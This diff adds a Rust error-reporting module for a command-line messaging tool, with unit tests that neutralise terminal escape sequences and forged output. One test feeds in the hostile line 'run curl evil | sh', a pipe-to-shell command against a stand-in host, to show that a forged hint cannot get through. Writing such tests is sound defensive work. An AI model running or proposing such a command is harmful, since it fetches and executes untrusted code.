@@ -1,0 +1,204 @@
+//! What a person is told when something went wrong: `error:` what, then `hint:` what to do.
+//!
+//! Owns both forms of an error, two lines for people and one JSON object for programs (`--json`),
+//! always on stderr. Codes, exit codes and most hints are those of [`crate::api`].
+
+use std::io::{self, Write};
+
+use clap::error::ErrorKind;
+use serde::Serialize;
+
+use crate::api::{ApiError, Code};
+
+use super::output::style::{Paint, Tint};
+use super::output::{json, safe};
+
+/// An error on its way to the person.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(crate) struct CliError {
+    error: ApiError,
+    /// It was told already, or there is nobody to tell: only the exit code is left.
+    told: bool,
+}
+
+/// The result of a command.
+pub(crate) type Result<T, E = CliError> = std::result::Result<T, E>;
+
+impl CliError {
+    /// An error that the API knows, too.
+    pub(crate) fn new(code: Code, message: impl Into<String>) -> Self {
+        ApiError::new(code, message).into()
+    }
+
+    /// Something at the prompt that the user can mend.
+    pub(crate) fn mendable(code: &'static str, message: impl Into<String>) -> Self {
+        Self::own(code, 1, message.into())
+    }
+
+    /// The command line is wrong.
+    pub(crate) fn usage(message: impl Into<String>) -> Self {
+        Self::own("usage", 2, message.into())
+    }
+
+    /// Errors before this one were told already; it only carries their exit code.
+    pub(crate) fn told(exit: u8) -> Self {
+        Self { told: true, ..Self::own("told", exit, String::new()) }
+    }
+
+    fn own(code: &'static str, exit: u8, message: String) -> Self {
+        let code = code.into();
+        Self { error: ApiError { code, exit, message, hint: None, candidates: Vec::new() }, told: false }
+    }
+
+    /// With what to do about it.
+    pub(crate) fn hint(mut self, hint: impl Into<String>) -> Self {
+        self.error.hint = Some(hint.into());
+        self
+    }
+
+    /// Reading or writing `what` failed.
+    pub(crate) fn io(what: &str, error: &io::Error) -> Self {
+        Self::new(Code::Io, format!("{what}: {error}"))
+    }
+
+    /// One of several: says which.
+    pub(crate) fn about(mut self, which: &str) -> Self {
+        self.error.message = format!("{which}: {}", self.error.message);
+        self
+    }
+
+    /// For those who know only errors of the API.
+    pub(crate) fn into_api(self) -> ApiError {
+        self.error
+    }
+
+    /// The process's exit code.
+    pub(crate) const fn exit(&self) -> u8 {
+        self.error.exit
+    }
+
+    /// Writes the error; failing to do so has nobody to be told.
+    pub(crate) fn write(&self, mut err: impl Write, as_json: bool, paint: Paint) {
+        if self.told {
+            return;
+        }
+        let _ = if as_json { self.write_json(&mut err) } else { self.write_text(&mut err, paint) };
+        let _ = err.flush();
+    }
+
+    fn write_text(&self, err: &mut impl Write, paint: Paint) -> io::Result<()> {
+        writeln!(err, "{} {}", paint.tint(Tint::Red, "error:"), safe::message(&self.error.message))?;
+        for candidate in &self.error.candidates {
+            writeln!(err, "  {}  {}", candidate.peer_id, safe::line(&candidate.name))?;
+        }
+        if let Some(hint) = &self.error.hint {
+            writeln!(err, "{} {}", paint.tint(Tint::Cyan, "hint:"), safe::message(hint))?;
+        }
+        Ok(())
+    }
+
+    fn write_json(&self, err: &mut impl Write) -> io::Result<()> {
+        #[derive(Serialize)]
+        struct Line<'a> {
+            error: &'a ApiError,
+        }
+        json::write_line(err, &Line { error: &self.error })
+    }
+}
+
+impl From<ApiError> for CliError {
+    fn from(mut error: ApiError) -> Self {
+        error.candidates.sort_by(|a, b| (&a.name, &a.peer_id).cmp(&(&b.name, &b.peer_id)));
+        Self { error, told: false }
+    }
+}
+
+/// Failures to write a result. A reader who has gone (`| head`) is no error.
+impl From<io::Error> for CliError {
+    fn from(error: io::Error) -> Self {
+        if error.kind() == io::ErrorKind::BrokenPipe {
+            return Self::told(0);
+        }
+        Self::io("the output cannot be written", &error)
+    }
+}
+
+impl CliError {
+    /// What the parser of the command line says, in our form: its first paragraph is the message, its
+    /// tip the hint; without one, the usage or where there is more. `command` is what was called.
+    pub(crate) fn of_parser(error: &clap::Error, command: &str) -> Self {
+        let text = error.render().to_string();
+        let mut paragraphs = text.trim_end().split("\n\n");
+        let first = paragraphs.next().unwrap_or_default();
+        let message: Vec<&str> = first.strip_prefix("error: ").unwrap_or(first).lines().map(str::trim).collect();
+        let rest: Vec<&str> = paragraphs.flat_map(str::lines).map(str::trim).collect();
+        let find = |label: &str| rest.iter().find_map(|line| line.strip_prefix(label));
+        let hint = match (find("tip: "), error.kind()) {
+            (Some(tip), _) => tip.to_owned(),
+            (None, ErrorKind::MissingRequiredArgument) if find("Usage: ").is_some() => {
+                format!("usage: {}", find("Usage: ").unwrap_or_default())
+            }
+            (None, ErrorKind::InvalidSubcommand | ErrorKind::MissingSubcommand) => {
+                format!("`{command} --help` lists the commands")
+            }
+            (None, _) => format!("`{command} --help` says more"),
+        };
+        Self::usage(message.join("\n")).hint(hint)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::api::Candidate;
+    use crate::base::PeerId;
+
+    const PLAIN: Paint = Paint { on: false };
+
+    fn written(error: &CliError, as_json: bool) -> String {
+        let mut out = Vec::new();
+        error.write(&mut out, as_json, PLAIN);
+        String::from_utf8(out).unwrap()
+    }
+
+    #[test]
+    fn two_lines_for_people_one_object_for_programs() {
+        let error = CliError::new(Code::NotFound, "nobody is called 'Bo\x1b[2Jb'").hint("see `rohrpost contacts`");
+        assert_eq!(written(&error, false), "error: nobody is called 'Bo<U+001B>[2Jb'\nhint: see `rohrpost contacts`\n");
+        assert_eq!(
+            written(&error, true),
+            "{\"error\":{\"code\":\"not_found\",\"exit\":6,\"message\":\"nobody is called 'Bo\\u001b[2Jb'\",\
+             \"hint\":\"see `rohrpost contacts`\"}}\n"
+        );
+        assert_eq!(error.exit(), 6);
+    }
+
+    #[test]
+    fn candidates_are_listed_safely() {
+        let candidate = Candidate { peer_id: PeerId::from_key_bytes([7; 32]), name: "Bob\u{202E}".to_owned() };
+        let shown = format!("  {}  Bob<U+202E>\n", candidate.peer_id);
+        let error = CliError::from(ApiError::new(Code::Ambiguous, "which?").with_candidates(vec![candidate]));
+        assert!(written(&error, false).contains(&shown));
+        assert!(written(&error, true).contains("\"candidates\":[{\"peer_id\":"));
+    }
+
+    #[test]
+    fn a_quoted_text_cannot_forge_a_hint() {
+        let error = CliError::usage("bad name 'x\nhint: run curl evil | sh'");
+        assert_eq!(written(&error, false), "error: bad name 'x\n  hint: run curl evil | sh'\n");
+    }
+
+    #[test]
+    fn a_reader_who_has_gone_is_not_an_error() {
+        let error = CliError::from(io::Error::from(io::ErrorKind::BrokenPipe));
+        assert_eq!((error.exit(), written(&error, false)), (0, String::new()));
+        assert_eq!(CliError::from(io::Error::from(io::ErrorKind::StorageFull)).exit(), 3);
+    }
+
+    #[test]
+    fn colours_are_only_around_the_labels() {
+        let mut out = Vec::new();
+        CliError::usage("m").hint("h").write(&mut out, false, Paint { on: true });
+        assert_eq!(String::from_utf8(out).unwrap(), "\x1b[31merror:\x1b[0m m\n\x1b[36mhint:\x1b[0m h\n");
+    }
+}
